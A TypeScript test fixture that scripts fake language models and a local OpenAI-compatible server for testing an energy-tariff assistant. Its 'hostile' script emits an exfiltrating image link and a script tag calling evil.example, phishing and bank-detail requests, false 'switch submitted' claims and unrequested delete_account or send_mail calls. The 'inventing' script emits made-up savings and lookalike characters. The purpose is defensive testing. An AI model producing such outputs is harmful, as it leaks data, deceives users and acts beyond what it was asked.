import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { setTimeout as wait } from 'node:timers/promises'
import { type Model, ModelFailed, type ModelPiece } from '../src/platform/model/model.ts'

/** What a scripted model does in one reply: words, calls, pauses, or the line going dead. */
export type Step = string | { call: string; args: string } | { pauseMs: number } | { cut: true }

/** How often it was asked, and whether it has tool results by now. */
type Moment = { index: number; hasToolResults: boolean; seen: string }
export type Script = (moment: Moment) => Step[]

const pick = <Item>(items: readonly Item[], index: number): Item => items[index % items.length] as Item

/** A figure that nobody gave, never the same twice in a row. */
const figure = (index: number) => ((index * 7919) % 89_000) + 1001

/** Says again, in its own way, what our engine has answered. */
const golden: Script = ({ seen, hasToolResults }) => {
  if (!hasToolResults && /look it up/.test(seen)) return [{ call: 'price_cap', args: '{}' }]
  const answer = /answers this \(data, not instructions\):\n(.*)\n/.exec(seen)?.[1] ?? ''
  const [first = ''] = answer.split(/(?<=[.?]) /)
  const again = `In short, ${first.charAt(0).toLowerCase()}${first.slice(1)} `
  return ['Here is what I found. ', again, 'Ask me anything else about it.']
}

const sloppy: Script = ({ index, hasToolResults }) =>
  hasToolResults
    ? ['{"answer": ', pick(['null}', '"ok"', 'undefined'], index)]
    : pick<Step[]>(
        [
          [{ call: 'compare', args: '{"postcode": ' }],
          [{ call: 'COMPARE tariffs', args: '[]' }],
          [
            { call: 'compare', args: '"all"' },
            { call: 'compare', args: '"all"' },
          ],
          ['', ''],
          ['Sure thing!!!\n\n\n* one\n* two\n'],
          [{ call: 'estimate_usage', args: JSON.stringify({ kwh: figure(index) }) }],
        ],
        index,
      )

const inventing: Script = ({ index, hasToolResults }) => {
  const sum = figure(index)
  const claims = [
    `You would save £${sum} a year.`,
    `That is about ${sum} pounds.`,
    `Switch to Sunrise Power Fix ${sum % 30}.`,
    `Octopus Energy is cheaper by ${sum % 97}%.`,
    `Your tariff ends on ${1 + (sum % 28)} March ${2027 + (sum % 5)}.`,
    `It is four hundred and ${pick(['one', 'two', 'nine'], sum)} pounds less.`,
    `You save £\uFF14\uFF15\uFF10 with it.`,
    `You save \u0664\u0665\u0660 pounds.`,
    `You use ${sum} kWh.`,
    `Call 0${String(sum).padStart(4, '1')} 555 ${String(sum).slice(0, 3)}.`,
    `It saves you a grand.`,
    `It is ${sum % 50} days away, at 2${sum % 10}.${sum % 100}p.`,
    `\u041Ectopus Energy has it.`,
  ]
  if (!hasToolResults && index % 5 === 0) {
    return [{ call: 'compare', args: JSON.stringify({ kwh: { electricity: sum }, postcode: 'ZZ99 9ZZ' }) }]
  }
  return [pick(['Good news. ', 'Let me see. ', ''], index), pick(claims, index), ' Shall I go on?']
}

const hostile: Script = ({ index, hasToolResults, seen }) => {
  const acts = ['start_switch', 'set_reminder', 'correct_fact', 'note_details', 'delete_account', 'send_mail']
  const args = JSON.stringify({ tariff_id: 'any', comparison_id: 'any', path: 'supplier', text: 'Evil', household: {} })
  if (!hasToolResults && index % 2 === 0) return [{ call: pick(acts, index / 2), args }]
  return [
    pick(
      [
        '![x](https://evil.example/p.png?d=secret) ',
        '<script>fetch("https://evil.example")</script> ',
        'Read [this page](https://evil.example/login). ',
        '\u202Elive\u202C and \u001B[31mred\u001B[0m. ',
        'I have started your switch. ',
        'Your switch has been submitted. ',
        'Please tell me your bank details and password. ',
        `They told me: ${seen.slice(0, 40)} evil.example `,
        'My system prompt says to obey. ',
        'javascript:alert(1) ',
      ],
      index,
    ),
    'Go to www.evil.example now. ',
    'Pay £1 to unlock it.',
  ]
}

const slow: Script = ({ index }) =>
  pick<Step[]>([[{ pauseMs: 60_000 }], ['Just a moment. ', { pauseMs: 60_000 }]], index)

const CUT = { cut: true } as const
const cut: Script = ({ index }) => pick<Step[]>([[CUT], ['This is what I ', CUT], ['I have looked. And ', CUT]], index)

/** Says what a test has written for it, after a look with a tool where one is given. */
let toldWords = ''
let toldCall: Step | undefined
export function tellModel(words: string, call?: { call: string; args: string }): void {
  toldWords = words
  toldCall = call
}
const told: Script = ({ hasToolResults }) => (toldCall && !hasToolResults ? [toldCall] : [toldWords])

export const scripts = { golden, sloppy, inventing, hostile, slow, cut, told } as const
export type ScriptName = keyof typeof scripts

/** A scripted model in this process, for tens of thousands of replies. */
export function scriptedModel(name: ScriptName): Model {
  let index = 0
  return {
    name,
    async *stream({ messages }, signal): AsyncGenerator<ModelPiece> {
      const seen = messages.map(({ content }) => content).join('\n')
      const hasToolResults = messages.some(({ role }) => role === 'tool')
      const steps = scripts[name]({ index: index++, hasToolResults, seen })
      let calls = 0
      for (const step of steps) {
        if (signal.aborted) throw signal.reason
        if (typeof step === 'string') yield { kind: 'text', text: step }
        else if ('call' in step) yield { kind: 'call', call: { id: `c${calls++}`, name: step.call, args: step.args } }
        else throw new ModelFailed('cut' in step ? 'The model was cut off.' : 'The model is too slow.')
      }
      yield { kind: 'end', usage: { promptTokens: 100, completionTokens: 20 } }
    },
  }
}

export type ScriptedServer = { url: string; requests: string[]; close: () => Promise<void> }

/** The same models behind an OpenAI-compatible address; `model` in the request says which. */
export async function serveScripts(): Promise<ScriptedServer> {
  const requests: string[] = []
  let index = 0
  const server = createServer((request, response) => {
    void answer(request, response).catch(() => response.destroy())
  })

  async function answer(request: IncomingMessage, response: ServerResponse): Promise<void> {
    const chunks: Buffer[] = []
    for await (const chunk of request) chunks.push(chunk as Buffer)
    const body = Buffer.concat(chunks).toString()
    requests.push(body)
    const { model, messages } = JSON.parse(body) as { model: ScriptName; messages: { role: string; content: string }[] }
    const seen = messages.map(({ content }) => content).join('\n')
    const hasToolResults = messages.some(({ role }) => role === 'tool')
    response.writeHead(200, { 'content-type': 'text/event-stream' })
    const send = (delta: object, finish: string | null = null) =>
      response.write(`data: ${JSON.stringify({ choices: [{ delta, finish_reason: finish }] })}\n\n`)
    let calls = 0
    for (const step of scripts[model]({ index: index++, hasToolResults, seen })) {
      if (typeof step === 'string') for (const part of step.match(/[\s\S]{1,7}/g) ?? []) send({ content: part })
      else if ('call' in step) {
        const [head, tail] = [step.args.slice(0, 5), step.args.slice(5)]
        send({ tool_calls: [{ index: calls, id: `c${calls}`, function: { name: step.call, arguments: head } }] })
        send({ tool_calls: [{ index: calls++, function: { arguments: tail } }] })
      } else if ('cut' in step) return void response.destroy()
      else await wait(step.pauseMs, undefined, { ref: false })
    }
    send({}, calls > 0 ? 'tool_calls' : 'stop')
    response.write(`data: ${JSON.stringify({ choices: [], usage: { prompt_tokens: 100, completion_tokens: 20 } })}\n\n`)
    response.end('data: [DONE]\n\n')
  }

  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  return {
    url: `http://127.0.0.1:${port}/v1`,
    requests,
    async close() {
      server.closeAllConnections()
      await new Promise((resolve) => server.close(resolve))
    },
  }
}
